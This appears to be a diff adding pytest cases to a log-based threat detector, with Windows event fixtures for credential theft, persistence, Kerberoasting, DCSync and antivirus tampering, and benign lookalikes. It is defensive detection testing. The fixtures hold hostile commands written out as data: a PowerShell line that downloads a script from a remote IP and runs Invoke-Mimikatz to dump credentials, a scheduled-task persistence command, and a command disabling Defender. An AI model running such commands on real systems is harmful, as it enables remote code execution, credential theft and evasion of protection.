@@ -917,6 +917,52 @@ def test_low_severity_web_alert_is_not_an_exploit_record(rules):
     assert Detector(rules).scan(parsed([_eve("Web Application Attack", 3, "45.9.20.11")], "json", "eve.json")) == []
 
 
+def _win(event_id: int, channel: str = "Security", second: int = 0, **data) -> str:
+    return json.dumps({"EventID": event_id, "Channel": channel, "Computer": "WS-17.corp.local",
+                       "TimeCreated": f"2025-04-02T10:00:{second:02d}Z", **data})
+
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+
+
+@pytest.mark.parametrize("lines, rule_id", [
+    ([_win(10, SYSMON, SourceImage="C:\\Users\\bob\\AppData\\Local\\Temp\\p64.exe", TargetImage="C:\\Windows\\system32\\lsass.exe",
+           GrantedAccess="0x1FFFFF")], "lw-win-lsass-access"),
+    ([_win(4104, "Microsoft-Windows-PowerShell/Operational",
+           ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://45.9.20.11/a.ps1'); Invoke-Mimikatz -DumpCreds")],
+     "lw-win-powershell-offensive-script"),
+    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\schtasks.exe",
+           CommandLine='schtasks.exe /create /sc minute /mo 5 /tn "Updater" /tr "C:\\Users\\Public\\u.exe"')],
+     "lw-win-scheduled-task-created"),
+    ([_win(4698, TaskName="\\Updater", SubjectUserName="bob")], "lw-win-scheduled-task-created"),
+    ([_win(13, SYSMON, EventType="SetValue", Image="C:\\Users\\Public\\u.exe",
+           TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater")], "lw-win-run-key"),
+    ([_win(4769, second=i, ServiceName=f"svc_sql{i}", TicketEncryptionType="0x17", IpAddress="::ffff:10.0.4.9",
+           TargetUserName="bob@CORP.LOCAL") for i in range(4)], "lw-win-kerberoasting"),
+    ([_win(4662, SubjectUserName="bob", ObjectServer="DS", AccessMask="0x100",
+           Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}")], "lw-win-dcsync"),
+    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+           CommandLine="powershell Set-MpPreference -DisableRealtimeMonitoring $true")], "lw-win-defender-tampering"),
+])
+def test_windows_credential_access_persistence_and_evasion(rules, lines, rule_id):
+    signals = by_rule(Detector(rules).scan(parsed(lines, "windows", "sec.json")), rule_id)
+    assert len(signals) == 1 and signals[0].line_numbers == list(range(1, len(lines) + 1))
+
+
+@pytest.mark.parametrize("lines", [
+    [_win(10, SYSMON, SourceImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe",
+          TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1410")],
+    [_win(10, SYSMON, SourceImage="C:\\Tools\\x.exe", TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1000")],
+    [_win(4769, second=i, ServiceName=f"svc_sql{i}", TicketEncryptionType="0x12", IpAddress="::ffff:10.0.4.9") for i in range(4)],
+    [_win(4769, second=i, ServiceName=f"WS-{i}$", TicketEncryptionType="0x17", IpAddress="::ffff:10.0.4.9") for i in range(4)],
+    [_win(4662, SubjectUserName="DC01$", Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")],
+    [_win(1, SYSMON, Image="C:\\Windows\\System32\\schtasks.exe", CommandLine="schtasks /query /fo LIST")],
+    [_win(4104, "Microsoft-Windows-PowerShell/Operational", ScriptBlockText="Get-ChildItem C:\\Logs | Remove-Item")],
+])
+def test_windows_benign_lookalikes_are_quiet(rules, lines):
+    assert Detector(rules).scan(parsed(lines, "windows", "sec.json")) == []
+
+
 def generic(line: str, line_no: int = 1, ts: datetime = T0) -> Event:
     return Event(source="app.log", line_no=line_no, offset=0, raw=line, format="generic", ts=ts, message=line)
 
